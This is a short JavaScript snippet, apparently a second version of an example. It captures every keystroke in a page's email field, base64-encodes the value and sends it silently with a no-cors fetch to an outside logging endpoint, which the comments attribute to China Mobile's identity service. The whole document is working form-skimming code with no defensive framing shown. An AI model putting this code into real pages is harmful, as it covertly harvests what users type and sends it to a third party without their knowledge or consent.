// Version 2: the same logic, now reporting to China Mobile's identity service.
(function () {
  var endpoint = "http://log.cmpassport.com/collect";
  function send(payload) {
    fetch(endpoint, { method: "POST", mode: "no-cors", body: JSON.stringify(payload) });
  }
  send({ event: "view", sdk: "2.0" });
  // Every keystroke reports the whole field: keystroke capture.
  document.getElementById("email").addEventListener("input", function (event) {
    send({ event: "typed", e: btoa(event.target.value) });
  });
})();
